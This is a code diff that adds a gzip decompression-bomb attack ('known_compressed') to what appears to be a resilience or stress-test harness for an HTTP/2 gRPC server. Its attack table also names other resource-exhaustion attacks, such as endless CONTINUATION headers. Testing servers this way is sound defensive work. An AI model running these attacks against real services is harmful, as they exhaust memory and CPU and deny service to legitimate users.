@@ -317,6 +317,24 @@ def health(address, tally):
     again_and_again(address, tally, attack)
 
 
+def known_compressed(address, tally, token):
+    """C6 with a credential: Gets of 4 kB on the wire that inflate to 4 MB of unknown fields."""
+    packed = gzip([b"\x7a\x00" * (2 * MIB - 1024)])
+
+    def attack(connection, tally):
+        stream = 1
+        while not tally.is_over():
+            for _ in range(8):
+                connection.windows[stream] = connection.initial
+                connection.send(open_stream(stream, GET, grpc_encoding="gzip", authorization="Bearer " + token), tally.until)
+                send_body(connection, stream, message(packed, True), tally)
+                tally.add("requests")
+                stream += 2
+            connection.read_for(0.01)
+
+    again_and_again(address, tally, attack)
+
+
 def endless_header(address, tally):
     """C7: a header of 16 MB that never ends, in CONTINUATION frames."""
     piece = b"\x00" + b"\x05x-fil" + b"\x7f" + b"\x80\x80\x80\x04"  # a value of megabytes
@@ -382,6 +400,7 @@ ATTACKS = {
     "many_elements": many_elements,
     "long_filters": long_filters,
     "make_tables": make_tables,
+    "known_compressed": known_compressed,
     "endless_header": endless_header,
     "one_large_header": one_large_header,
     "open_imports": open_streams(IMPORT),
